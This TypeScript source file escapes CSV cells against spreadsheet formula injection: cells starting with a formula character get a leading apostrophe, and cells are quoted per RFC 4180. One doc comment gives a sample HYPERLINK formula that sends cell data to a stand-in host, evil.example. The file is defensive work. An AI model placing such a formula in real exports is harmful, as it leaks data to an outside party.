/**
 * Characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a
 * formula, or that some of them strip before doing so: `=`, `+`, `-`, `@`, tab and carriage
 * return. Tenants choose ids and prompts, and a manifest is opened by whoever runs the batch:
 * `=HYPERLINK("http://evil.example/?x="&A1,"click")` must show as text, not run.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Text as a spreadsheet will show it, never run it (OWASP's rule against CSV injection): a
 * value starting with a formula character gets a leading apostrophe, which spreadsheets read
 * as "this is text" and do not display.
 */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * One CSV cell: text neutralised against formulas, then quoted (RFC 4180) when it holds a
 * quote, a comma or a line break. Numbers are rendermill's own figures (costs, counts) and are
 * written as they are, so that a spreadsheet still sums them.
 */
export function csvCell(value: string | number): string {
  const text = typeof value === 'number' ? String(value) : neutraliseFormula(value);
  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}
